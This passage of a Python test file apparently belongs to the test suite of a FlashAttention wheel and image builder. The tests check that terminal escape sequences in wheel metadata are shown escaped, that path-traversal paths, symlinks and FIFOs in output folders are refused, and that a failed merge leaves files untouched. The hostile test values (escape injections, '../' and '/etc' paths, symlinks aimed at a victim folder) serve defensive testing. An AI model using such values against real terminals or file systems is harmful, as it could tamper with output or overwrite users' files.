    code, out, err = fa_images(capsys, "doctor", "--python", sys.executable, "--json")
    assert code in (0, 1) and "Traceback" not in err, err
    json.loads(out)


@pytest.mark.parametrize("case", sorted(LIARS))
def test_the_import_check_survives_a_python_that_lies_or_is_missing(case: str, tmp_path: Path) -> None:
    body = LIARS[case]
    python = str(tmp_path / "python") if body is None else _script(tmp_path / "python", body)
    report = verify.WheelReport(wheel=WHEEL)
    from packaging.tags import Tag

    verify._check_import(report, tmp_path, python, {Tag("cp311", "cp311", "linux_x86_64")}, generations.FA2)
    status, _detail, info = verify._import_check(tmp_path, python, "flash_attn_2_cuda")
    assert report.checks and status in ("pass", "fail", "skip") and isinstance(info, dict)


# --- 8. terminal escapes --------------------------------------------------------------------


def test_text_from_a_wheel_is_printed_escaped(tmp_path: Path, capsys) -> None:
    wheel = _wheel(tmp_path / WHEEL, "Name: flash-attn\x1b]0;pwned\x07\nVersion: 2.8.3\x1b[2J\n")
    code, out, err = fa_images(capsys, "inspect", wheel, "--no-import")
    assert code == 1 and "\x1b" not in out + err and "\x07" not in out + err
    assert "\\x1b[2J" in out


def test_shown_escapes_controls_and_keeps_the_rest() -> None:
    assert untrusted.shown("flash-attn 2.8.3 ✓ é") == "flash-attn 2.8.3 ✓ é"
    assert untrusted.shown("a\x1b[31mb\rc\x07\u202e") == "a\\x1b[31mb\\rc\\x07\\u202e"
    assert untrusted.shown("one\ntwo", keep_newlines=True) == "one\ntwo"


# --- 9. the flash-attn range is the builder's, and the table cannot widen it ----------------

SHA = '"' + "0" * 64 + '"'


@pytest.mark.parametrize(
    ("override", "entry_fa", "says"),
    [
        (
            f'flash_attn_range: ">=1.0"\nflash_attn: {{"2.4.2": {{sha256: {SHA}, cuda_archs_env: true}}}}\n',
            "2.4.2",
            "outside what the builder can build",
        ),
        ('flash_attn_range: ">=2.5,<4"\n', "2.9.0", "cannot be built by fa-images"),
        ('flash_attn_range: ""\n', "2.9.0", "cannot be built by fa-images"),
        ('flash_attn_range: ">=2.5,<6"\n', "5.0.0", "names FlashAttention-5, which fa-images does not build"),
    ],
    ids=["an older version pinned", "a newer release", "an empty range", "a generation it does not build"],
)
def test_a_compat_override_cannot_widen_the_builders_range(override, entry_fa, says, tmp_path: Path, capsys) -> None:
    (tmp_path / "wide.yaml").write_text(override)
    path = tmp_path / "matrix.yaml"
    path.write_text(f'entries: [{{python: "3.12", torch: "2.9.1", flash_attn: "{entry_fa}", target: A100}}]\n')
    for command in (["plan"], ["render", "--out", tmp_path / "out"]):
        code, _out, err = fa_images(capsys, *command, "--matrix", path, "--compat", tmp_path / "wide.yaml")
        assert_clear_error(code, err, 2, says)
    assert not (tmp_path / "out").exists()


# --- safe_io itself -------------------------------------------------------------------------


@pytest.mark.parametrize("rel", ["../x", "/etc/x", "a/../../x", "", "."])
def test_safe_io_takes_only_plain_relative_paths(rel: str, tmp_path: Path) -> None:
    with pytest.raises(safe_io.UnsafeOutput):
        safe_io.OutputDir(tmp_path).write_text(rel, "x")


def test_safe_io_writes_atomically_and_leaves_no_temporary_file(tmp_path: Path, monkeypatch) -> None:
    out = safe_io.OutputDir(tmp_path / "o")
    out.write_text("a/f.txt", "old")

    def fail(*_args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", fail)
    with pytest.raises(OSError, match="No space"):
        out.write_text("a/f.txt", "new")
    assert (tmp_path / "o" / "a" / "f.txt").read_text() == "old"
    assert [p.name for p in (tmp_path / "o" / "a").iterdir()] == ["f.txt"]


def test_every_command_help_says_what_is_protected(capsys) -> None:
    commands = [["plan"], ["render"], ["build"], ["wheel"], ["inspect"], ["doctor"], ["dist", "merge"]]
    for command in [*commands, ["export", "github"], ["export", "bake"], ["compat", "refresh"]]:
        code, out, _err = fa_images(capsys, *command, "--help")
        assert code == 0 and "protected:" in " ".join(out.split()), command


def test_an_entry_log_is_never_written_through_a_link(tmp_path: Path, victim: Path) -> None:
    from fa_images.run.logger import EntryLog

    _plant(tmp_path / "logs" / "e.log", victim / "index.html")
    with pytest.raises(UsageError, match="symlink"):
        EntryLog(tmp_path / "logs" / "e.log")
    assert (victim / "index.html").read_text() == "the user's"
    log = EntryLog(tmp_path / "logs" / "f.log")
    log.write("line")
    log.close()
    assert (tmp_path / "logs" / "f.log").read_text() == "line\n"


# --- 5. a refused merge leaves dist/ as it was: every output checked before the first move --


def tree(folder: Path) -> dict[str, tuple[str, bytes | str | None]]:
    """Every entry under ``folder``, links not followed: its kind and bytes, or a link's target."""
    found: dict[str, tuple[str, bytes | str | None]] = {}
    for here, dirs, files in os.walk(folder):
        for name in sorted(dirs + files):
            path = Path(here) / name
            mode = path.lstat().st_mode
            rel = str(path.relative_to(folder))
            if stat.S_ISLNK(mode):
                found[rel] = ("link", os.readlink(path))
            elif stat.S_ISREG(mode):
                found[rel] = ("file", path.read_bytes())
            else:
                found[rel] = (untrusted.kind_of(mode), None)
    return found


def _replace(path: Path, make) -> None:
    if path.is_dir() and not path.is_symlink():
        for child in sorted(path.rglob("*"), reverse=True):
            child.rmdir() if child.is_dir() and not child.is_symlink() else child.unlink()
        path.rmdir()
    elif os.path.lexists(path):
        path.unlink()
    make(path)


WHEEL_B = WHEEL.replace("cp311-cp311", "cp312-cp312")
# (what is in the way, relative to dist/; how it is made; what the error must call it)
OBSTACLES = {
    "simple is a file": ("simple", lambda p: p.write_text("x"), "a file"),
    "simple is a symlink to elsewhere": ("simple", lambda p: p.symlink_to(p.parent.parent / "victim"), "a symlink"),
    "simple/flash-attn is a file": ("simple/flash-attn", lambda p: p.write_text("x"), "a file"),
    "simple/flash-attn is a FIFO": ("simple/flash-attn", os.mkfifo, "a FIFO"),
    "the project page is a FIFO": ("simple/flash-attn/index.html", os.mkfifo, "a FIFO"),
    "the root page is a symlink": ("simple/index.html", lambda p: p.symlink_to("../manifest.json"), "a symlink"),
    "the new wheel's .metadata is a directory": (f"{WHEEL_B}.metadata", lambda p: p.mkdir(), "a directory"),
    "the new wheel's .metadata is a FIFO": (f"{WHEEL_B}.metadata", os.mkfifo, "a FIFO"),
    "manifest.json is a directory": ("manifest.json", lambda p: p.mkdir(), "a directory"),
    "manifest.json is a FIFO": ("manifest.json", os.mkfifo, "a FIFO"),
}


def _merge_source(root: Path, name: str) -> Path:
    src = root / name.split("-")[2]
    src.mkdir()
    wheel = _wheel(src / name, "Name: flash-attn\nVersion: 2.8.3+cu128torch2.9cxx11abitrue\n")
    record = {"sha256": hashlib.sha256(wheel.read_bytes()).hexdigest(), "size": wheel.stat().st_size}
    record |= {"flash_attn": "2.8.3", "python": "3.11"}
    (src / "manifest.json").write_text(json.dumps({"schema_version": 1, "wheels": {name: record}}))
    return src


@pytest.mark.parametrize("case", sorted(OBSTACLES))
def test_a_refused_merge_leaves_dist_exactly_as_it_was(
    case: str, tmp_path: Path, victim: Path, capsys, monkeypatch
) -> None:
    # The verifier has its own tests; here every wheel passes it, so only the writes are judged.
    monkeypatch.setattr(dist, "verify_incoming", lambda item, log: None)
    out = tmp_path / "dist"
    code, _out, err = fa_images(capsys, "dist", "merge", _merge_source(tmp_path, WHEEL), "--dist", out)
    assert code == 0, err
    assert (out / f"{WHEEL}.metadata").is_file()  # the obstacle-free merge writes every kind of output
    where, make, kind = OBSTACLES[case]
    _replace(out / where, make)
    before, victim_before = tree(out), tree(victim)
    code, _out, err = fa_images(capsys, "dist", "merge", _merge_source(tmp_path, WHEEL_B), "--dist", out)
    assert_clear_error(code, err, 2, str(out / where), kind)
    assert len(err.strip().splitlines()) == 1 or err.splitlines()[1].startswith("hint:"), err
    assert tree(out) == before
    assert tree(victim) == victim_before


def test_a_symlink_where_a_directory_goes_is_called_a_symlink(tmp_path: Path, victim: Path) -> None:
    out = safe_io.OutputDir(tmp_path / "out")
    (tmp_path / "out" / "sub").symlink_to(victim)
    (tmp_path / "out" / "pipe").mkdir()
    os.mkfifo(tmp_path / "out" / "pipe" / "p")
    with pytest.raises(safe_io.UnsafeOutput, match=r"out/sub must be a directory, but it is a symlink"):
        out.check_writable(["sub/file"])
    with pytest.raises(safe_io.UnsafeOutput, match=r"out/pipe/p must be a directory, but it is a FIFO"):
        out.check_writable(["pipe/p/file"])
    with pytest.raises(safe_io.UnsafeOutput, match=r"out/pipe/p must be a file, but it is a FIFO"):
        out.check_writable(["pipe/p"])
    out.check_writable(["new/deeper/file", "pipe/other"])  # absent paths are fine, and nothing is made
    assert not (tmp_path / "out" / "new").exists()
    (tmp_path / "file").write_text("x")
    with pytest.raises(safe_io.UnsafeOutput, match=r"cannot be a directory: it is a file"):
        safe_io.OutputDir(tmp_path / "file")


def test_a_refused_add_leaves_the_builds_wheel_where_it_was(tmp_path: Path) -> None:
    """The executor's and `wheel`'s way in (add_wheels with move=True): refused before the move."""
    out = tmp_path / "dist"
    out.mkdir()
    (out / "simple").symlink_to(tmp_path)
    incoming = _incoming(tmp_path)
    before = tree(out)
    with pytest.raises(safe_io.UnsafeOutput, match=r"dist/simple must be a directory, but it is a symlink"):
        dist.add_wheels(out, incoming, move=True)
    assert incoming[0].path.is_file()
    assert tree(out) == before


@pytest.mark.parametrize(
    ("make", "kind"),
    [
        (os.mkfifo, "a FIFO"),
        (lambda p: p.symlink_to("elsewhere.whl"), "a symlink"),
        (lambda p: p.mkdir(), "a directory"),
    ],
    ids=["fifo", "symlink", "directory"],
)
def test_something_else_under_the_wheels_name_is_named_and_nothing_moves(
    make, kind: str, tmp_path: Path, capsys, monkeypatch
) -> None:
    monkeypatch.setattr(dist, "verify_incoming", lambda item, log: None)
    out = tmp_path / "dist"
    out.mkdir()
    make(out / WHEEL_B)
    before = tree(out)
    code, _out, err = fa_images(capsys, "dist", "merge", _merge_source(tmp_path, WHEEL_B), "--dist", out)
    assert_clear_error(code, err, 2, f"{out / WHEEL_B} is {kind}, not a wheel")
    assert tree(out) == before


@pytest.mark.parametrize("move", [False, True], ids=["merge", "a build's wheel"])
@pytest.mark.parametrize("fails", ["manifest.json", "simple/flash-attn/index.html", "simple/index.html"])
def test_a_write_that_fails_past_the_checks_is_undone(fails: str, move: bool, tmp_path: Path, monkeypatch) -> None:
    """A full disk or a race (faked here: the checks cannot see it coming) undoes the whole add."""
    out = tmp_path / "dist"
    first = _incoming(tmp_path)
    dist.add_wheels(out, first)
    stale = out / "simple" / "old-project"
    stale.mkdir()
    (stale / "index.html").write_text("written by fa-images once")
    src = _merge_source(tmp_path, WHEEL_B)
    record = dist.read_manifest(src).wheels[WHEEL_B]
    before = tree(out)
    write = safe_io.OutputDir.write_bytes

    def full_disk(self: safe_io.OutputDir, rel: str, data: bytes, **kw: int) -> Path:
        if str(rel) == fails:
            raise OSError(28, "No space left on device")
        return write(self, rel, data, **kw)

    monkeypatch.setattr(safe_io.OutputDir, "write_bytes", full_disk)
    with pytest.raises(OSError, match="No space left"):
        dist.add_wheels(out, [dist.Incoming(src / WHEEL_B, record, "test")], move=move)
    assert tree(out) == before
    assert (src / WHEEL_B).is_file()  # a build's wheel is not lost either


def test_a_base_a_table_value_makes_too_long_for_docker_is_refused_before_any_build(tmp_path: Path, capsys) -> None:
    """The bases were checked with sample values; a CUDA release of the table can still make the
    filled FROM reference a tag Docker refuses (over 128 characters): refused at plan, not at build."""
    release = "12.8." + "1" * 120
    (tmp_path / "long.yaml").write_text(f'cuda: {{"12.8": {{release: "{release}", min_driver: "525"}}}}\n')
    path = tmp_path / "matrix.yaml"
    path.write_text('entries: [{python: "3.12", torch: "2.9.1", flash_attn: "2.8.3", target: A100}]\n')
    for command in (["plan"], ["render", "--out", tmp_path / "out"]):
        code, _out, err = fa_images(capsys, *command, "--matrix", path, "--compat", tmp_path / "long.yaml")
        assert_clear_error(code, err, 2, "bases.devel becomes", "that Docker refuses")
    assert not (tmp_path / "out").exists()


def test_dist_site_prints_its_out_path_escaped_as_dist_merge_does(tmp_path: Path, capsys) -> None:
    from test_manylinux import a_wheel

    from fa_images.cli import main

    wheel = a_wheel(tmp_path / "built")
    record = dist.WheelRecord(
        sha256=hashlib.sha256(wheel.read_bytes()).hexdigest(), size=1, flash_attn="2.8.3", python="3.12"
    )
    dist.add_wheels(tmp_path / "dist", [dist.Incoming(wheel, record, "a test")])
    out = tmp_path / "site\x1b[31mred"
    code = main(
        ["dist", "site", "--dist", str(tmp_path / "dist"), "--out", str(out), "--wheel-url", "https://x.example/w/"]
    )
    captured = capsys.readouterr()
    assert code == 0 and "\x1b" not in captured.err + captured.out
    assert "site\\x1b[31mred" in captured.err
